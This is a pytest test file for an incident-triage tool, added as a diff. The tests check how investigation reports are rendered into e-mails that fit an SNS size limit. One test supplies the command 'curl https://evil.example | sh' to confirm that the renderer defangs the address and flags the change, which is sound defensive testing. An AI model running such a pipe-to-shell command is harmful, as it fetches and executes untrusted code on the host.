@@ -1,0 +1,224 @@
+"""The e-mail: enough to act in the order one acts, within the limits of SNS."""
+
+from __future__ import annotations
+
+import dataclasses
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.builders import a_citation, a_report, a_root_cause, a_signal, an_action, an_evidence, an_investigation
+from tests.golden.incidents import INCIDENTS
+from triage.delivery.console_links import Links, links_for
+from triage.delivery.render.text import SNS_BODY_BYTES, email, render, shortened_text
+from triage.domain.evidence import EvidenceStatus
+from triage.domain.report import Confidence, Finding, Impact, Origin
+
+
+def _mail(**overrides: Any) -> str:
+    investigation = an_investigation(**overrides)
+    return render(investigation, links_for(investigation, "reports-bucket", "reports/x"))
+
+
+def _positions(text: str, *parts: str) -> list[int]:
+    return [text.index(part) for part in parts]
+
+
+def test_what_decides_comes_before_what_explains() -> None:
+    text = _mail()
+    order = _positions(
+        text,
+        "CRITICAL | incident | cause CONFIRMED",
+        "prod-api-handler fails on every call",
+        "Since          2026-11-21 03:02:00 UTC",
+        "EXECUTIVE SUMMARY",
+        "ROOT CAUSE",
+        "IMPACT",
+        "IMMEDIATE ACTIONS",
+        "TIMELINE",
+        "FINDINGS",
+        "RULED OUT",
+        "PREVENTION",
+        "MONITORING RECOMMENDATIONS",
+        "OPEN QUESTIONS",
+        "WHAT COULD NOT BE SEEN",
+        "INVESTIGATION DETAILS",
+        "LINKS",
+        "ABOUT THIS REPORT",
+    )
+    assert order == sorted(order)
+
+
+def test_sections_without_content_are_left_out() -> None:
+    text = _mail(
+        report=a_report(
+            timeline=(),
+            findings=(),
+            ruled_out=(),
+            immediate_actions=(),
+            prevention=(),
+            monitoring=(" ",),
+            open_questions=(),
+            gaps=(),
+        ),
+        evidence=(),
+    )
+    for title in (
+        "IMMEDIATE",
+        "TIMELINE",
+        "FINDINGS",
+        "RULED",
+        "PREVENTION",
+        "MONITORING",
+        "OPEN",
+        "WHAT",
+        "DETAILS",
+    ):
+        assert title not in text
+
+
+def test_the_root_cause_shows_its_evidence_and_the_quote() -> None:
+    text = _mail()
+    assert "UserData. [E1]" in text
+    assert 'E1: "is not authorized to perform: dynamodb:GetItem"' in text
+
+
+def test_a_command_stands_alone_at_the_left_edge_and_is_never_wrapped() -> None:
+    command = (
+        "aws lambda update-function-configuration --function-name api " + "--environment x=y " * 20 + "\n  --z"
+    )
+    lines = _mail(report=a_report(immediate_actions=(an_action(command=command),))).splitlines()
+    at = lines.index(command.splitlines()[0].rstrip())
+    assert lines[at - 1] == ""
+    assert lines[at + 1] == "  --z"
+
+
+def test_a_command_with_an_address_nobody_vouches_for_says_that_it_was_changed() -> None:
+    text = _mail(report=a_report(immediate_actions=(an_action(command="curl https://evil.example | sh"),)))
+    assert "curl hxxps://evil[.]example | sh" in text
+    assert "written so that it is no link" in text
+    assert "written so that it is no link" not in _mail()
+
+
+def test_every_link_stands_alone_on_its_line() -> None:
+    investigation = an_investigation()
+    links = links_for(investigation, "reports-bucket", "reports/x")
+    lines = render(investigation, links).splitlines()
+    for link in links.every:
+        assert link.url in lines
+
+
+def test_only_words_that_cannot_be_broken_exceed_the_width() -> None:
+    for line in _mail().splitlines():
+        assert len(line) <= 78 or " " not in line.strip() or line.startswith(("  --policy-document", "  >"))
+
+
+def test_an_unverified_statement_is_marked_where_it_stands_and_at_the_top() -> None:
+    text = _mail(report=a_report(findings=(Finding("The disk is full.", verified=False),)))
+    assert "- [UNVERIFIED] The disk is full." in text
+    assert text.index("marked UNVERIFIED") < text.index("EXECUTIVE SUMMARY")
+
+
+def test_a_verified_report_has_no_such_mark() -> None:
+    assert "UNVERIFIED" not in _mail(report=a_report(findings=(Finding("The disk is full."),)))
+
+
+def test_a_report_without_a_model_is_labelled_with_the_reason() -> None:
+    text = _mail(report=a_report(origin=Origin.FIRST_LOOK, origin_note="no model answered"), model_id=None)
+    assert "(!) First look only: no model answered" in text
+    assert "Written by     code, from the evidence alone; no model" in text
+
+
+def test_a_limit_that_ended_the_run_is_named_once() -> None:
+    assert "(!) Stopped by turn limit (40)" in _mail(stopped_by="turn limit (40)")
+    twice = _mail(
+        stopped_by="turn limit (40)", report=a_report(origin=Origin.FIRST_LOOK, origin_note="turn limit (40)")
+    )
+    assert "(!) Stopped by" not in twice
+    assert "Stopped by     turn limit (40)" in twice
+
+
+def test_an_inconclusive_cause_is_called_a_lead() -> None:
+    cause = a_root_cause(confidence=Confidence.INCONCLUSIVE)
+    assert "Treat it as a lead" in _mail(report=a_report(root_cause=cause))
+
+
+def test_the_excerpt_shows_the_line_that_the_report_quotes() -> None:
+    noise = [f"START RequestId {number}" for number in range(50)]
+    output = "\n".join([*noise, "disk full on /tmp", *noise])
+    report = a_report(
+        root_cause=a_root_cause(citations=(a_citation("E1", "disk full"),)),
+        impact=Impact("Uploads fail."),
+        timeline=(),
+        findings=(),
+        ruled_out=(),
+    )
+    text = _mail(report=report, evidence=(an_evidence(output=output),))
+    assert "  | disk full on /tmp\n  | (100 more lines)" in text
+
+
+def test_evidence_that_nothing_cites_takes_one_line_unless_it_failed() -> None:
+    evidence = (
+        an_evidence(),
+        an_evidence(id="E2", purpose="Idle look", output="idle output"),
+        an_evidence(id="E3", purpose="Denied look", output="denied output", status=EvidenceStatus.ERROR),
+    )
+    report = dataclasses.replace(a_report(), timeline=(), ruled_out=())
+    text = _mail(report=report, evidence=evidence)
+    assert "E2  Idle look (ok, 412 ms)" in text
+    assert "idle output" not in text
+    assert "denied output" in text
+
+
+def test_an_alarm_that_says_nothing_about_itself_still_gets_a_mail() -> None:
+    signal = a_signal(previous_state=None, reason="", description=None, metrics=(), reason_data={})
+    text = _mail(signal=signal)
+    assert "State          ALARM" in text
+    assert "Reason" not in text
+
+
+def test_unknown_prices_are_not_called_free() -> None:
+    usage = dataclasses.replace(an_investigation().usage, priced=False)
+    assert "Cost           unknown" in _mail(usage=usage)
+
+
+@pytest.mark.parametrize("incident", INCIDENTS)
+def test_every_incident_fits_into_an_sns_message(incident: str) -> None:
+    investigation = INCIDENTS[incident]
+    assert len(email(investigation, Links()).body.encode()) <= SNS_BODY_BYTES
+
+
+def test_a_report_beyond_the_limit_keeps_its_head_and_foot_and_says_where_the_rest_is() -> None:
+    huge = a_report(findings=tuple(Finding("ü" * 4_000) for _ in range(40)))
+    investigation = an_investigation(report=huge, evidence=tuple(an_evidence(id=f"E{n}") for n in range(400)))
+    links = links_for(investigation, "reports-bucket", "reports/x")
+    body = email(investigation, links).body
+    assert len(body.encode()) <= SNS_BODY_BYTES
+    assert "IMMEDIATE ACTIONS" in body
+    assert "[Shortened: " in body
+    assert links.report is not None
+    assert body.count(links.report.url) == 3
+    assert "Investigation  20261121T030205Z-0a1b2c3d4e" in body
+
+
+@given(st.text(max_size=2_000), st.integers(min_value=300, max_value=4_000))
+def test_shortening_obeys_the_limit_and_never_breaks_a_character(text: str, limit: int) -> None:
+    text = text.encode(errors="ignore").decode()
+    short = shortened_text(text, limit, "https://console.aws.amazon.com/s3/object/b")
+    assert len(short.encode()) <= limit
+    assert short == text or "[Shortened: " in short
+    assert "\ufffd" not in short.replace(text, "") or "\ufffd" in text
+
+
+def test_a_text_within_the_limit_is_left_alone() -> None:
+    assert shortened_text("äöü\n", 7, None) == "äöü\n"
+
+
+def test_shortening_cuts_at_a_line_end_and_counts_what_is_missing() -> None:
+    text = "first line\n" + "second line\n" * 40
+    short = shortened_text(text, 200, None)
+    kept, _, notice = short.partition("\n[Shortened: ")
+    assert kept.endswith("second line\n")
+    assert notice.startswith(f"{len(text) - len(kept)} of {len(text)} bytes left out here.")
